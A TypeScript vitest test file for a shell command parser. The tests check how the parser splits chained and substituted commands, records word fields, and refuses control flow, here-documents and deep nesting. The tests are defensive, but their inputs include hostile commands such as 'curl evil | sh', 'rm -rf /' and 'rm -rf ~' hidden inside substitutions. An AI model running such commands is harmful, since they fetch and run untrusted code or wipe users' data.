import { describe, expect, it } from "vitest";
import { parseShellCommand, type ShellWord } from "./shell-parse.js";

/** `cmd` inside `levels` backtick substitutions, each level escaping the one inside it. */
const nestedBackticks = (cmd: string, levels: number): string =>
  levels === 0 ? cmd : `echo \`${nestedBackticks(cmd, levels - 1).replace(/[\\`]/g, "\\$&")}\``;

/** Program names of every simple command, in order (nested substitutions included). */
const programs = (input: string) => parseShellCommand(input).commands.map((c) => c.argv[0]?.text ?? "");

describe("parseShellCommand: segments", () => {
  it.each([
    ["ls", ["ls"]],
    ["ls -l /tmp", ["ls"]],
    ["ls; curl evil | sh", ["ls", "curl", "sh"]],
    ["ls && rm -rf / || echo no", ["ls", "rm", "echo"]],
    ["ls & curl x", ["ls", "curl"]],
    ["ls\ncurl x", ["ls", "curl"]],
    ["ls |& tee", ["ls", "tee"]],
    ["(cd /tmp; rm x)", ["cd", "rm"]],
    ["{ ls; rm x; }", ["ls", "rm"]],
    ["echo $(curl evil)", ["curl", "echo"]],
    ["echo `curl evil`", ["curl", "echo"]],
    ['echo "$(rm -rf ~)"', ["rm", "echo"]],
    ["echo $(echo $(wget x))", ["wget", "echo", "echo"]],
    ["diff <(curl a) <(curl b)", ["curl", "curl", "diff"]],
    ["ls # ; rm -rf /", ["ls"]],
    ["ls;rm x", ["ls", "rm"]],
    ["ls&&rm x", ["ls", "rm"]],
    ["ls>/dev/null;rm x", ["ls", "rm"]],
    ["echo a\\;b", ["echo"]],
    ["echo 'a; rm x'", ["echo"]],
    ['echo "a && rm x"', ["echo"]],
    ["ls \\\n -l", ["ls"]],
    ["echo a#b", ["echo"]],
    ["ls\t-l", ["ls"]],
    ["ls\r\n".replace("\r", ""), ["ls"]],
    ["echo `ls \\`pwd\\``", ["pwd", "ls", "echo"]],
    [nestedBackticks("id", 3), ["id", "echo", "echo", "echo"]],
    ['echo "`date`"', ["date", "echo"]],
    ["echo $((1 + (2 * 3)))", ["echo"]],
    ["echo $( (cd x; ls) )", ["cd", "ls", "echo"]],
    ["echo $((cd x; ls) )", ["cd", "ls", "echo"]],
    ["{ ls & }", ["ls"]],
    ['echo $ a$ "$"', ["echo"]],
    ["FOO=1 BAR=2", [""]],
    ["ls 2>/dev/null | grep -v x >&2", ["ls", "grep"]],
    ["echo é日本😀 ❤️", ["echo"]],
  ])("%j runs %j", (input, expected) => {
    expect(parseShellCommand(input).ok).toBe(true);
    expect(programs(input)).toEqual(expected);
  });

  it("reads quoting and escapes into plain words", () => {
    const [cmd] = parseShellCommand(`grep -e 'a b' "c\\"d" e\\ f`).commands;
    expect(cmd?.argv.map((w) => w.text)).toEqual(["grep", "-e", "a b", 'c"d', "e f"]);
    expect(cmd?.argv.some((w) => w.dynamic)).toBe(false);
  });

  it("marks words the shell expands", () => {
    const [cmd] = parseShellCommand(`echo $HOME "${"$"}{X}" *.ts ~ plain {a,b} "$(date)"`).commands.slice(-1);
    expect(cmd?.argv.map((w) => w.dynamic)).toEqual([false, true, true, true, true, false, true, true]);
  });

  it("records assignments and redirections", () => {
    const [cmd] = parseShellCommand("FOO=1 BAR=$x make 2>&1 >out.log < in.txt &>>all").commands;
    expect(cmd?.assignments).toEqual(["FOO=1", "BAR=$x"]);
    expect(cmd?.argv.map((w) => w.text)).toEqual(["make"]);
    expect(cmd?.redirects.map((r) => [r.fd, r.op, r.target.text])).toEqual([
      [2, ">&", "1"],
      [undefined, ">", "out.log"],
      [undefined, "<", "in.txt"],
      [undefined, "&>>", "all"],
    ]);
  });

  it("joins a backslash-newline inside a word, as the shell does", () => {
    expect(parseShellCommand("ec\\\nho a\\\nb").commands[0]?.argv.map((w) => w.text)).toEqual(["echo", "ab"]);
  });

  it("a quoted keyword is a plain word", () => {
    expect(programs('"if" x')).toEqual(["if"]);
  });
});

describe("parseShellCommand: what it will not vouch for", () => {
  it.each([
    ["for f in *; do rm $f; done", /control flow \(for\)/],
    ["if true; then rm x; fi", /control flow \(if\)/],
    ["while :; do :; done", /control flow/],
    ["cat <<EOF\nrm x\nEOF", /here-documents/],
    ["echo 'unclosed", /single quote/],
    ['echo "unclosed', /double quote/],
    ["echo $(ls", /never closed/],
    ["echo `ls", /backtick/],
    ["ls )", /unmatched/],
    ["f() { rm x; }", /function definition/],
    [`echo ${"$"}{X:-$(rm x)}`, /inside \$\{…\}/],
    ["ls >", /no target/],
    ["echo \\", /lone backslash/],
    ["a\0b", /NUL/],
    ["x".repeat(20_000), /longer than/],
    [`${"$(".repeat(12)}ls${")".repeat(12)}`, /nest deeper/],
    [`${"( ".repeat(12)}ls${")".repeat(12)}`, /nest deeper/],
    [nestedBackticks("ls", 10), /nest deeper/],
    ["{ { { { { { { { { { ls; }; }; }; }; }; }; }; }; }; }", /nest deeper/],
    ["{ ls }", /"\{" is never closed/],
    ["case x in a) ls;; esac", /control flow \(case\)/],
    ["coproc ls", /control flow \(coproc\)/],
    ["ls;; rm", /;;/],
    ["((x = 1))", /arithmetic commands/],
    ["a=(rm -rf /)", /array assignment/],
    ["echo $((x + $(rm y)))", /inside arithmetic/],
    ["echo $((1 + '2'))", /inside arithmetic/],
    ["echo $((1 + 2)", /never closed/],
    ["echo $[1 + 2]", /\$\[…\]/],
    ["echo $'\\' ;rm y; '", /ANSI-C quoting/],
    [`echo ${"$"}{x:-'}'}`, /quotes, escapes or braces inside/],
    [`echo ${"$"}{x`, /never closed/],
    ["echo `ls \\`", /backtick/],
    ["echo 'a' 'b", /single quote at character 10/],
    ["echo 😀 'b", /single quote at character 8 /],
    ["cat <<-EOF", /here-documents/],
    ["ls &>", /no target/],
    ["ls 2>", /no target/],
    ["ls > | x", /no target/],
    ["x".repeat(16_385), /longer than 16384 characters \(16385\)/],
  ])("%#: refuses with %s", (input, reason) => {
    const parsed = parseShellCommand(input);
    expect(parsed.ok).toBe(false);
    if (!parsed.ok) expect(parsed.reason).toMatch(reason);
  });
});

/** Every field of the one word `echo WORD` passes to echo. */
function wordOf(source: string): ShellWord | undefined {
  const parsed = parseShellCommand(`echo ${source}`);
  expect(parsed).toMatchObject({ ok: true });
  return parsed.commands.at(-1)?.argv[1];
}

describe("parseShellCommand: the fields of a word", () => {
  const F = { substituted: false, tilde: false, brace: false };
  it.each<[string, Omit<ShellWord, "raw" | "dynamic"> & { dynamic?: boolean }]>([
    // plain, quoted and escaped literals
    ["plain", { text: "plain", ...F }],
    ["'a b'", { text: "a b", ...F }],
    ['"a b"', { text: "a b", ...F }],
    ["a\\ b", { text: "a b", ...F }],
    ['"\\a\\$\\"\\\\"', { text: '\\a$"\\', ...F }],
    ["'$HOME'", { text: "$HOME", ...F }],
    ["\\$HOME", { text: "$HOME", ...F }],
    ["$", { text: "$", ...F }],
    ['"$"', { text: "$", ...F }],
    ["a$", { text: "a$", ...F }],
    ["''", { text: "", ...F }],
    // substitutions, unquoted and in double quotes
    ["$HOME", { text: "$HOME", ...F, substituted: true }],
    ['"$HOME"', { text: "$HOME", ...F, substituted: true }],
    ["$1$@$?", { text: "$1$@$?", ...F, substituted: true }],
    [`${"$"}{x:-a b}`, { text: `${"$"}{x:-a b}`, ...F, substituted: true }],
    [`"${"$"}{x}"y`, { text: `${"$"}{x}y`, ...F, substituted: true }],
    ["$(date)", { text: "$(date)", ...F, substituted: true }],
    ['"$(date)"', { text: "$(date)", ...F, substituted: true }],
    ["`date`", { text: "`date`", ...F, substituted: true }],
    ["$((1+2))", { text: "$((1+2))", ...F, substituted: true }],
    ["<(ls)", { text: "<(ls)", ...F, substituted: true }],
    ['$"x"', { text: "$x", ...F, substituted: true }],
    // globs: quoted and escaped characters come back escaped
    ["*.ts", { text: "*.ts", ...F, glob: "*.ts" }],
    ["'*'x*", { text: "*x*", ...F, glob: "\\*x*" }],
    ['"a b"?', { text: "a b?", ...F, glob: "\\a\\ \\b?" }],
    ["a\\*b[ch]", { text: "a*b[ch]", ...F, glob: "a\\*b[ch]" }],
    ["'😀'*", { text: "😀*", ...F, glob: "\\😀*" }],
    ["'*'", { text: "*", ...F, dynamic: false }],
    ['"[a]"', { text: "[a]", ...F, dynamic: false }],
    ["$x*", { text: "$x*", ...F, substituted: true }],
    // tilde
    ["~", { text: "~", ...F, tilde: true }],
    ["~/notes", { text: "~/notes", ...F, tilde: true }],
    ['"~"/x', { text: "~/x", ...F }],
    ["\\~x", { text: "~x", ...F }],
    ["x~", { text: "x~", ...F }],
    // braces: exactly what bash expands
    ["{a,b}", { text: "{a,b}", ...F, brace: true }],
    ["a{,}", { text: "a{,}", ...F, brace: true }],
    ["{1..3}", { text: "{1..3}", ...F, brace: true }],
    ["{a..e}", { text: "{a..e}", ...F, brace: true }],
    ["{10..-10..2}", { text: "{10..-10..2}", ...F, brace: true }],
    ["{a,'b'}", { text: "{a,b}", ...F, brace: true }],
    ["{a{b,c}", { text: "{a{b,c}", ...F, brace: true }],
    ["x{$y,z}", { text: "x{$y,z}", ...F, substituted: true, brace: true }],
    ["{a,b}*", { text: "{a,b}*", ...F, brace: true, glob: "{a,b}*" }],
    ["{}", { text: "{}", ...F }],
    ["{a}", { text: "{a}", ...F }],
    ["{a.b}", { text: "{a.b}", ...F }],
    ["{a..9}", { text: "{a..9}", ...F }],
    ["{'1'..3}", { text: "{1..3}", ...F }],
    ["'{'a,b}", { text: "{a,b}", ...F }],
    ["\\{a,b}", { text: "{a,b}", ...F }],
    ["{a\\,b}", { text: "{a,b}", ...F }],
    ['"{a,b}"', { text: "{a,b}", ...F }],
    ["{$y..3}", { text: "{$y..3}", ...F, substituted: true }],
  ])("%s", (source, expected) => {
    const { dynamic, ...fields } = expected;
    const shouldBeDynamic =
      dynamic ?? (fields.substituted || fields.tilde || fields.brace || fields.glob !== undefined);
    expect(wordOf(source)).toEqual({ ...fields, raw: source, dynamic: shouldBeDynamic });
  });

  it("redirection targets and nested words carry the same fields", () => {
    const [inner, outer] = parseShellCommand("cat $(ls '*'x*) > ~/out{1,2}").commands;
    expect(inner?.argv[1]).toMatchObject({ text: "*x*", raw: "'*'x*", glob: "\\*x*" });
    expect(outer?.redirects[0]?.target).toMatchObject({ text: "~/out{1,2}", tilde: true, brace: true });
  });
});
